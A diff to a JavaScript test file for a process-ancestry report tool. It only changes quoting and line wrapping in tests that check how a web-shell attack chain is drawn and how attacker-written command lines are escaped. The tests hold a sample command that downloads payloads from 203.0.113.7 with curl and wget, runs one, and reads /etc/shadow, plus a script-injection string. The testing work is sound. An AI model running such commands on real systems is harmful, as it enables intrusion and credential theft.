@@ -31,7 +31,7 @@ describe('pedigree demo writes the report', () => {
   });
 
   it('draws the web-shell chain with its three steps highlighted and the /etc/shadow read under the shell', () => {
-    const payload = article(html, "Web service shell fetches and runs a payload <span");
+    const payload = article(html, 'Web service shell fetches and runs a payload <span');
     expect(stepNodes(payload)).toEqual(['shell', 'fetch', 'run']);
     expect(payload).toMatch(/<text class="name" x="6" y="14">cat,4004<\/text><text class="args" x="6" y="29">\/etc\/shadow<\/text>/);
     // The ancestry from the root down to the shell is drawn, root first.
@@ -44,7 +44,7 @@ describe('pedigree demo writes the report', () => {
   });
 
   it('marks exited processes and reused pids, with the full command line in the hover text', () => {
-    const payload = article(html, "Web service shell fetches and runs a payload <span");
+    const payload = article(html, 'Web service shell fetches and runs a payload <span');
     expect(payload).toMatch(/<g class="node exited step reused" data-exec="\d+" data-steps="fetch"/);
     expect(payload).toMatch(/<g class="node exited"[^>]*><title>cat pid 4004/);
     expect(payload).toContain('cmdline: sh -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &#38;');
@@ -124,7 +124,9 @@ describe('report --pdf', () => {
 describe('hostile evidence', () => {
   it('escapes attacker-written command lines everywhere in the page', () => {
     const evil = `<script>alert(1)</script>"'&\u202eexe.txt\u0007`;
-    const lines = readFileSync(STORY, 'utf8').split('\n').map((l) => (l.includes('"args":["/etc/shadow"]') ? l.replace('"args":["/etc/shadow"]', `"args":["/etc/shadow",${JSON.stringify(evil)}]`) : l));
+    const lines = readFileSync(STORY, 'utf8')
+      .split('\n')
+      .map((l) => (l.includes('"args":["/etc/shadow"]') ? l.replace('"args":["/etc/shadow"]', `"args":["/etc/shadow",${JSON.stringify(evil)}]`) : l));
     const input = dir.path('evil.jsonl');
     writeFileSync(input, lines.join('\n'));
     const db = dir.path('evil.db');
